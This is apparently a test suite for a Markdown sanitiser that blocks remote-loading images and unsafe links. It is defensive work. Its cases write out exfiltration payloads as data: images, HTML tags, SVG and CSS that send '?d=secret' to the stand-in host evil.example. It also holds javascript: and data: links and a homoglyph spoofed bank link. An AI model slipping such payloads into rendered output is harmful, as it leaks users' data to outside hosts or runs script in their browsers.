import { describe, expect, test } from 'vitest';
import { safeMarkdown } from './markdown-safety.ts';
import { hostileTexts } from './testing/hostile-texts.ts';

const evil = 'https://evil.example/p.png?d=secret';

describe('safeMarkdown', () => {
  test.each([
    ['inline', `![a](${evil})`],
    ['inline with title', `![a](${evil} "t")`],
    ['angle brackets', `![a](<${evil}>)`],
    ['nested brackets', `![a [b] c](${evil})`],
    ['over lines', `![a](\n${evil}\n)`],
    ['escaped bracket', `![a \\] b](${evil})`],
    ['protocol-relative', '![a](//evil.example/p?d=secret)'],
    ['reference', `![a][r]\n\n[r]: ${evil}`],
    ['collapsed reference', `![r][]\n\n[r]: ${evil}`],
    ['shortcut reference', `![r]\n\n[r]: <${evil}>`],
    ['image in link', `[![a](${evil})](https://ok.example)`],
    ['image in a doubtful fence', `- \`\`\`\n  code\n  \`\`\`\n![a](${evil})`],
    ['image after pre', `<pre>\n\`\`\`\n</pre>\n![a](${evil})`],
    ['image between fences inside pre', `<pre>\n\`\`\`\n</pre>\n![a](${evil})\n\`\`\`\n`],
    ['image between fences of maths', `$$\n\`\`\`\n$$\n![a](${evil})\n\`\`\`\n`],
    ['image in an open fence', `\`\`\`\n![a](${evil})`],
    ['html', `<img src="${evil}" alt="a">`],
    ['html over lines', `<img\nsrc='${evil}'>`],
    ['html unclosed', `<img src=${evil}`],
    ['html with quoted >', `<img alt=">" src="${evil}">`],
    ['html in link text', `[<img src=${evil}>](https://ok.example)`],
    ['svg', `<svg><image href="${evil}"/></svg>`],
    ['style', `<div style="background:url(${evil})">x</div>`],
    ['iframe', `<iframe src="${evil}"></iframe>`],
    ['srcset', `<source srcset="${evil}">`],
    ['link tag', `<link rel="prefetch" href="${evil}">`],
    ['video', `<video poster="${evil}"></video>`],
  ])('loads nothing: %s', (_, markdown) => {
    const { text, removed } = safeMarkdown(markdown);
    expect(text).not.toMatch(/(?<!\\)!\[[^\]]*\]/);
    expect(text).not.toMatch(/!\[/);
    expect(text).not.toMatch(/<(?:img|image|svg|iframe|source|link|video|div style)/i);
    expect(removed.length).toBeGreaterThan(0);
  });

  test('brackets it cannot read are still no image, citations after an exclamation stay', () => {
    expect(safeMarkdown(`![[[[a]]]](${evil})`).text).toContain('!\\[');
    expect(safeMarkdown('Great![1] Wow![^2]').text).toBe('Great! [1] Wow! [^2]');
  });

  test('says what an image was and where it pointed', () => {
    expect(safeMarkdown(`See ![a chart](${evil}) here`)).toEqual({
      text: 'See (image not loaded: a chart, evil.example) here',
      removed: [{ kind: 'image', host: 'evil.example' }],
    });
  });

  test.each([
    ['[text](https://shop.example/x)', '[text](https://shop.example/x) (shop.example)'],
    ['[shop.example](https://shop.example/x)', '[shop.example](https://shop.example/x)'],
    ['[bank.example](https://bаnk.example/x)', '[bank.example](https://bаnk.example/x) (xn--bnk-6cd.example)'],
    [
      '[text][1]\n\n[1]: https://shop.example/x',
      '[text](https://shop.example/x) (shop.example)\n\n[1]: https://shop.example/x',
    ],
    ['<https://shop.example/x?a=1>', 'https://shop.example/x?a=1'],
    ['[here](/docs/a#b) and [top](#top)', '[here](/docs/a#b) and [top](#top)'],
    ['[run](javascript:alert(1))', 'run'],
    ['[run](JaVa&#115;cript:alert(1))', 'run'],
    ['[run](data:text/html,x)', 'run'],
    ['[a](https://x.example/b_(c))', '[a](<https://x.example/b_(c)>) (x.example)'],
  ])('links: %s', (markdown, expected) => expect(safeMarkdown(markdown).text).toBe(expected));

  test.each([
    '# Title\n\n- a\n- b **c** `d`\n\n| a | b |\n|---|---|\n',
    'a < b and c > d, x[1](2)?',
    '```html\n<img src="https://x.example/a.png">\n```\nend',
    'Wow![^1] citation [1]',
  ])('leaves other text alone: %s', (markdown) => expect(safeMarkdown(markdown).removed).toEqual([]));

  test('code at the margin of the page stays as written', () => {
    const code = '```html\n<img src="https://x.example/a.png">\n![a](https://x.example/a.png)\n```\n';
    expect(safeMarkdown(code).text).toBe(code);
  });

  test.each(hostileTexts)('ends soon on 100 kB of $name', ({ text }) => {
    expect(safeMarkdown(text).text).not.toContain('![');
  });
});
